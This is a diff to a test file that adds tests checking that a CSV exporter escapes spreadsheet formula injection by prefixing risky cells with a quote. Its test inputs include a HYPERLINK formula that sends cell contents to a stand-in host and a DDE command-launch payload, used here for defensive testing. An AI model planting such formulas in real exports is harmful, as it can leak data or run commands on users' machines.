@@ -59,9 +59,46 @@ describe('toCsv', () => {
       ['2026/04', '一般廃棄物', '可燃ごみ "燃える"', 1234.5],
       ['2026/05', 'a,b', '行1\n行2\r\n行3', 0],
       ['髙橋工業株式会社', '𠮷野家', '', null],
-      ['"', '""', ',', '\r'],
+      ['"', '""', ',', 'a\r'],
     ];
     expect(parseCsv(toCsv(rows))).toEqual(rows.map((r) => r.map((c) => (c === null ? '' : String(c)))));
+  });
+});
+
+describe('toCsv and formula injection (OWASP: a cell starting with = + - @ TAB or CR gets a single quote)', () => {
+  it.each([
+    ['=HYPERLINK("http://x.example/?"&A1,"click")', `'=HYPERLINK("http://x.example/?"&A1,"click")`],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['-100', "'-100"],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    // Not at the start, or not one of OWASP's characters: written as it is.
+    ['a=1+1', 'a=1+1'],
+    [' =1+1', ' =1+1'],
+    ['\n=1+1', '\n=1+1'],
+    ["'=1+1", "'=1+1"],
+    ['＝1+1', '＝1+1'],
+    ['2026-04', '2026-04'],
+    ['03-1234-5678', '03-1234-5678'],
+    ['', ''],
+  ])('text %j is written as %j', (cell, written) => {
+    expect(parseCsv(toCsv([[cell]]))).toEqual([[written]]);
+  });
+
+  it.each([
+    [-100, '-100'],
+    [-0.5, '-0.5'],
+    [1234.5, '1234.5'],
+    [0, '0'],
+  ])('a number cell %j is typed and written as it is: %j', (cell, written) => {
+    expect(parseCsv(toCsv([[cell]]))).toEqual([[written]]);
+  });
+
+  it('neutralises every cell of a row, not only the first, and keeps quotes and commas inside the cell', () => {
+    expect(toCsv([['a', '=1+1', 'b,"=2"', '@x']])).toBe(`${CSV_BOM}"a","'=1+1","b,""=2""","'@x"\r\n`);
   });
 });
 
